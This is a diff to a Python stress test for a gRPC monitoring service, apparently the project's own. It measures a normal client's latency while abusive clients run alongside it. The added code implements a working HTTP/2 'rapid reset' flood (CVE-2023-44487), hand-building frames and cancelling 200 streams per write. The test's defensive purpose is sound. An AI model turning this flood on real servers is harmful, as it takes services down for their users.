@@ -9,14 +9,19 @@ First the well-behaved client alone: GetStatus over TCP, one call after the othe
   - 50 more send bytes that are no HTTP/2 (random, then an HTTP/1.1 request) and stay open;
   - 200 WatchIncidents streams subscribe and never read (their HTTP/2 window held small);
   - a client opens a WatchIncidents stream and cancels it at once, over and over;
+  - a client that writes the same HTTP/2 by hand, as fast as a socket takes it: batches of
+    200 WatchIncidents streams each cancelled at once (RST_STREAM), connecting again whenever it
+    is cut off (the "rapid reset" of CVE-2023-44487);
   - calls with no token and with a token that is not one.
-The abusers run in a process of their own. Prints one JSON object: the well-behaved client's calls, failures and latency p50/p99/max (ms)
-alone and under abuse, the abusers' counts and the status codes they got."""
+The abusers run in a process of their own, each on a connection of its own. Prints one JSON
+object: the well-behaved client's calls, failures and latency p50/p99/max (ms) alone and under
+abuse, the abusers' counts and the status codes they got."""
 import json
 import os
 import random
 import socket
 import statistics
+import struct
 import subprocess
 import sys
 import threading
@@ -46,6 +51,57 @@ def well_behaved(stub, metadata, messages, seconds):
     return {"calls": len(latencies) + len(failures), "failures": failures,
             "p50_ms": statistics.median(latencies) if latencies else None,
             "p99_ms": percentile(latencies, 0.99), "max_ms": max(latencies, default=None)}
+
+
+# A channel of its own: gRPC Python shares one connection between channels to the same address
+# with the same options, and one abuser's connection, once cut off, must not take another's calls.
+OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    """An HPACK header field, literal and not indexed, no Huffman coding."""
+    def string(text):
+        data = text.encode()
+        assert len(data) < 127
+        return bytes([len(data)]) + data
+    return b"\x00" + string(name) + string(value)
+
+
+def rapid_reset(host, port, token, stop, counts):
+    """Opens WatchIncidents streams and cancels each at once, 200 to a write, over and over."""
+    request = b"".join(literal(n, v) for n, v in [
+        (":method", "POST"), (":scheme", "http"), (":path", "/wctmon.v1.Monitor/WatchIncidents"),
+        (":authority", "wctmon"), ("content-type", "application/grpc"), ("te", "trailers"),
+        ("authorization", "Bearer " + token)])
+    empty_message = frame(0, 1, 0, b"\x00\x00\x00\x00\x00")  # DATA, END_STREAM (id set below)
+    while not stop.is_set():
+        try:
+            s = socket.create_connection((host, int(port)))
+        except OSError:
+            counts["refused"] += 1
+            time.sleep(0.01)
+            continue
+        counts["connections"] += 1
+        stream = 1
+        try:
+            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+            while not stop.is_set():
+                batch = []
+                for _ in range(200):
+                    batch.append(frame(1, 4, stream, request))  # HEADERS, END_HEADERS
+                    batch.append(empty_message[:5] + struct.pack(">I", stream) + empty_message[9:])
+                    batch.append(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
+                    stream += 2
+                s.sendall(b"".join(batch))
+                counts["streams"] += 200
+        except OSError:
+            counts["cut_off"] += 1
+        finally:
+            s.close()
 
 
 def abuse(messages, services, tcp, unix_path, metadata):
@@ -83,7 +139,7 @@ def abuse(messages, services, tcp, unix_path, metadata):
     churn = {"streams": 0}
 
     def open_and_cancel():
-        c = grpc.insecure_channel(tcp)
+        c = grpc.insecure_channel(tcp, options=OWN_CONNECTION)
         s = services.MonitorStub(c)
         while not stop.is_set():
             call = s.WatchIncidents(messages.WatchIncidentsRequest(), metadata=metadata)
@@ -94,7 +150,7 @@ def abuse(messages, services, tcp, unix_path, metadata):
     refused = {}
 
     def strangers():
-        stub = services.MonitorStub(grpc.insecure_channel(tcp))
+        stub = services.MonitorStub(grpc.insecure_channel(tcp, options=OWN_CONNECTION))
         while not stop.is_set():
             for md in ([], [("authorization", "Bearer not-a-token")]):
                 try:
@@ -105,7 +161,10 @@ def abuse(messages, services, tcp, unix_path, metadata):
                 refused[code] = refused.get(code, 0) + 1
             time.sleep(0.01)
 
-    threads = [threading.Thread(target=open_and_cancel), threading.Thread(target=strangers)]
+    raw = {"connections": 0, "streams": 0, "cut_off": 0, "refused": 0}
+    token = metadata[0][1].split(" ", 1)[1]
+    threads = [threading.Thread(target=open_and_cancel), threading.Thread(target=strangers),
+               threading.Thread(target=rapid_reset, args=(host, port, token, stop, raw))]
     for t in threads:
         t.start()
     print("ready", flush=True)
@@ -123,7 +182,7 @@ def abuse(messages, services, tcp, unix_path, metadata):
         s.close()
     print(json.dumps({"idle_connections": len(idle), "garbage_connections": len(garbage),
                       "watchers": watch_codes, "opened_and_cancelled": churn["streams"],
-                      "strangers": refused}), flush=True)
+                      "rapid_reset": raw, "strangers": refused}), flush=True)
 
 
 def main():
